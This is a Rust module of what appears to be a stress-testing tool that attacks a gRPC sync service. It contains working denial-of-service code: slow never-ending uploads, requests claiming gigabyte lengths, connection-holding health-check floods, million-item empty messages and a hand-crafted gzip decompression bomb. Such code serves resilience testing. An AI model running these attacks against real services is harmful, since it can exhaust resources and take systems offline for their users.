//! Attacks by what a request says, or does not come to say.

use std::time::Duration;

use bytes::Bytes;
use prost::Message as _;
use sync_proto::v1;
use tokio::time::interval;

use crate::peer::{Call, PREFIX_LEN, Peer, answered, prefix};
use crate::{Target, pause};

const ACK: &str = "/deltasync.v1.SyncService/Ack";
const CHECK: &str = "/grpc.health.v1.Health/Check";
const COMMIT: &str = "/deltasync.v1.WriteService/Commit";
const IMPORT: &str = "/deltasync.v1.WriteService/Import";
const PULL: &str = "/deltasync.v1.SyncService/Pull";
const SUBSCRIBE: &str = "/deltasync.v1.SyncService/Subscribe";
const WATCH: &str = "/grpc.health.v1.Health/Watch";

/// Each method with a repeated field, and that field's tag as it is sent.
const REPEATED: [(&str, u8); 5] =
    [(PULL, 0x0a), (SUBSCRIBE, 0x0a), (COMMIT, 0x0a), (COMMIT, 0x12), (ACK, 0x12)];

/// Empty items of one message.
const ITEMS: usize = 1_000_000;

/// Length that a request claims and never sends.
const CLAIMED: usize = 1 << 30;

/// Length of an upload that never ends, and what is sent of it at a time: just more than the
/// server's least rate.
const UPLOAD: usize = 3_000_000;
const UPLOAD_PART: usize = 4 * 1_024;
const UPLOAD_EVERY: Duration = Duration::from_millis(200);

/// Uploads of a connection, and connections.
const UPLOADS_OF_ONE: usize = 12;
const UPLOADERS: usize = 16;

/// Connections on which questions about the server are asked, how often, and bytes of one.
const ASKERS: usize = 16;
const ASKED_EVERY: Duration = Duration::from_millis(5);
const QUESTION: usize = 4_000;

/// Pause of a peer that is refused.
const BACK_AFTER: Duration = Duration::from_millis(100);

/// Bytes of a compressed message, each of which makes 158.
const BOMB: usize = 1_000_000;

/// Uploads that never end: half of them stop, the others go on slowly.
pub(crate) async fn uploads(target: &Target) {
    for _ in 0..UPLOADERS {
        let target = target.clone();
        target.tasks.clone().spawn(async move {
            while !target.is_over() {
                if let Some(peer) = Peer::open(&target).await {
                    let all = (0..UPLOADS_OF_ONE)
                        .map(|number| upload_again(&target, peer.clone(), number % 2 == 0));
                    futures::future::join_all(all).await;
                }
                pause(&target, BACK_AFTER).await;
            }
        });
    }
    tokio::time::sleep_until(target.end).await;
}

/// Begins another upload whenever one is ended by the server, for as long as there is a connection.
async fn upload_again(target: &Target, mut peer: Peer, goes_on: bool) {
    while let Some(call) = peer.call(COMMIT, None).await {
        let Call { response, mut body } = call;
        let sending = async {
            let mut left = UPLOAD;
            let mut ticks = interval(UPLOAD_EVERY);
            let mut part = prefix(false, UPLOAD).freeze();
            // What the windows do not take waits on this side: no more is sent than is taken.
            while goes_on && left > UPLOAD_PART && body.send_data(part, false).is_ok() {
                ticks.tick().await;
                left -= UPLOAD_PART;
                part = Bytes::from(vec![b'u'; UPLOAD_PART]);
                target.count("parts", 1);
            }
            if !goes_on {
                drop(body.send_data(prefix(false, UPLOAD).freeze(), false));
                target.count("parts", 1);
            }
            std::future::pending::<()>().await;
        };
        tokio::select! {
            _ = answered(target, response) => {}
            () = sending => {}
            () = tokio::time::sleep_until(target.end) => return,
        }
        pause(target, BACK_AFTER).await;
    }
}

/// Makes calls of one peer, of which each sends `message`, so many a second.
async fn call_all(
    target: &Target,
    per_s: u32,
    header: Option<(&str, &str)>,
    message: impl Fn(usize) -> (&'static str, Bytes),
) {
    let mut peer = None;
    let mut ticks = interval(Duration::from_secs(1) / per_s);
    for number in 0.. {
        ticks.tick().await;
        if target.is_over() {
            return;
        }
        if peer.is_none() {
            peer = Peer::open(target).await;
        }
        let Some(one) = &mut peer else { continue };
        let (path, bytes) = message(number);
        let Some(mut call) = one.call(path, header).await else {
            peer = None;
            continue;
        };
        // The last byte is not sent where that is the attack.
        let is_whole = bytes.len() > PREFIX_LEN;
        drop(call.body.send_data(bytes, is_whole));
        let counted = target.clone();
        target.tasks.spawn(async move {
            let Call { response, body } = call;
            answered(&counted, response).await;
            drop(body);
        });
    }
}

/// Requests that claim to be a gigabyte.
pub(crate) async fn prefixes(target: &Target) {
    let claims = prefix(false, CLAIMED).freeze();
    let paths = [COMMIT, PULL, SUBSCRIBE, IMPORT, CHECK, WATCH];
    call_all(target, 300, None, |number| (paths[number % paths.len()], claims.clone())).await;
}

/// Questions about the server, which anybody may ask: of half of them the end does not come, to the
/// others the answer has none.
pub(crate) async fn questions(target: &Target) {
    let unfinished = prefix(false, QUESTION + 1).freeze();
    let unfinished = [unfinished, vec![b'q'; QUESTION].into()].concat();
    for _ in 0..ASKERS {
        let (target, unfinished) = (target.clone(), Bytes::from(unfinished.clone()));
        target.tasks.clone().spawn(async move {
            while !target.is_over() {
                if let Some(mut peer) = Peer::open(&target).await {
                    ask_on(&target, &mut peer, &unfinished).await;
                }
                pause(&target, BACK_AFTER).await;
            }
        });
    }
    tokio::time::sleep_until(target.end).await;
}

/// Asks for as long as there is a connection, and holds whatever is answered.
async fn ask_on(target: &Target, peer: &mut Peer, unfinished: &Bytes) {
    let mut ticks = interval(ASKED_EVERY);
    for number in 0.. {
        ticks.tick().await;
        if target.is_over() {
            return;
        }
        let watches = number % 2 == 0;
        let Some(mut call) = peer.call(if watches { WATCH } else { CHECK }, None).await else {
            return;
        };
        let bytes = if watches { prefix(false, 0).freeze() } else { unfinished.clone() };
        drop(call.body.send_data(bytes, watches));
        let held = target.clone();
        target.tasks.spawn(async move {
            let Call { response, body } = call;
            let answer = answered(&held, response).await;
            tokio::time::sleep_until(held.end).await;
            drop((answer, body));
        });
    }
}

/// Requests of a million items in which there is nothing.
pub(crate) async fn empties(target: &Target) {
    let of = |(path, tag): &(&'static str, u8)| {
        let mut message = prefix(false, 2 * ITEMS);
        message.extend_from_slice(&[*tag, 0].repeat(ITEMS));
        (*path, message.freeze())
    };
    let mut messages: Vec<_> = REPEATED.iter().map(of).collect();
    messages.push((PULL, nested()));
    call_all(target, 8, None, |number| messages[number % messages.len()].clone()).await;
}

/// The same a few messages deeper: one target, whose scope is a set of keys.
fn nested() -> Bytes {
    let target = |keys: Vec<Bytes>| {
        let part = Some(v1::scope::Part::Keys(v1::KeySet { keys }));
        v1::Target { scope: Some(v1::Scope { part }), ..Default::default() }
    };
    let targets = vec![target(vec![Bytes::new(); ITEMS])];
    let request = v1::PullRequest { targets, ..Default::default() };
    let mut message = prefix(false, request.encoded_len());
    request.encode(&mut message).unwrap();
    message.freeze()
}

/// Requests that are small on the wire and would be large when decompressed.
pub(crate) async fn bombs(target: &Target) {
    let bomb = bomb();
    let mut message = prefix(true, bomb.len());
    message.extend_from_slice(&bomb);
    let message = message.freeze();
    let paths = [COMMIT, PULL, SUBSCRIBE, IMPORT, CHECK];
    let gzip = Some(("grpc-encoding", "gzip"));
    call_all(target, 20, gzip, |number| (paths[number % paths.len()], message.clone())).await;
}

/// Zeros as gzip has them: one byte, and then "the last 258 again" for as long as it takes. The end
/// is missing, before which whoever decompresses has made it all.
fn bomb() -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    let (mut bits, mut count) = (0_u32, 0);
    // A last block with fixed codes, the literal 0, and then 285 (258 bytes) at distance 1. Codes
    // are sent from their highest bit on, numbers from their lowest.
    let mut add = |value: u32, length: u32, bytes: &mut Vec<u8>| {
        bits |= value << count;
        count += length;
        while count >= 8 {
            bytes.push(u8::try_from(bits & 0xff).unwrap());
            bits >>= 8;
            count -= 8;
        }
    };
    add(0b011, 3, &mut bytes);
    add(0b0000_1100, 8, &mut bytes);
    while bytes.len() < BOMB {
        add(0b1010_0011, 8, &mut bytes);
        add(0, 5, &mut bytes);
    }
    bytes
}
